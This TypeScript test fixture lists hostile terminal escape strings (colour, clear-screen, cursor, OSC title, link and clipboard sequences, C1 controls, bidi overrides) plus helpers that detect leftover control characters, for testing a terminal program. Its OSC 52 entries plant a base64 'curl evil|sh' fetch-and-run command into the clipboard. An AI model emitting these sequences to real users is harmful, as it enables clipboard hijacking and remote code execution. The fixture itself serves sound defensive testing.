/**
 * Hostile strings, each with a plain marker (HX0, HX1…) that must stay findable wherever it is
 * shown. The colour sequence uses parameters kubetutor never writes itself (1;38;5;196), so a
 * frame that carries it raw cannot pass for the program's own styling.
 */
export interface Hostile { name: string; text: string; marker: string }

const payloads: Array<[string, string]> = [
  ['CSI colour', '\x1b[1;38;5;196mred\x1b[0m'],
  ['CSI 2J clear screen', 'x\x1b[2J\x1b[H'],
  ['cursor up', 'x\x1b[5A'],
  ['cursor down', 'x\x1b[3B'],
  ['OSC 0 title, BEL', '\x1b]0;pwned\x07t'],
  ['OSC 8 link, ST', '\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\'],
  ['OSC 52 clipboard, BEL', '\x1b]52;c;Y3VybCBldmlsfHNo\x07c'],
  ['OSC 52 clipboard, ST', '\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\c'],
  ['8-bit C1 CSI', '\u009b2J\u009b31mc1'],
  ['DCS', '\x1bP1$qm\x1b\\d'],
  ['bidi override', 'abc\u202eevil\u202c'],
  ['lone trailing ESC', 'end\x1b'],
  ['10 kB run of ESC', '\x1b'.repeat(10_240)],
];

export const HOSTILE: Hostile[] = payloads.map(([name, payload], i) => ({ name, marker: `HX${i}`, text: `HX${i} ${payload}` }));

/** One string carrying every hostile payload (for fields that hold one value). */
export const ALL_IN_ONE = HOSTILE.map((h) => h.text).join(' ');

/** ESC, C1 controls, bidi controls and the other C0 controls but tab, newline and CR. */
export const STEERING = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/**
 * What is left of `written` once the program's own styling is taken out: SGR with the plain
 * parameters chalk writes (never 38;5;…), and the given sequences of its own (cursor, clear).
 */
export function foreign(written: string, own: string[] = []): string {
  let rest = written.replace(/\x1b\[(?:\d{1,2}(?:;\d{1,2})*)?m/g, (m) => (/38;5|196/.test(m) ? m : ''));
  for (const o of own) rest = rest.split(o).join('');
  return rest;
}

/** The first steering character in `written` that is not the program's own, with its context; '' when none. */
export function firstForeign(written: string, own: string[] = []): string {
  const rest = foreign(written, own);
  const m = STEERING.exec(rest);
  return m ? JSON.stringify(rest.slice(Math.max(0, m.index - 30), m.index + 30)) : '';
}
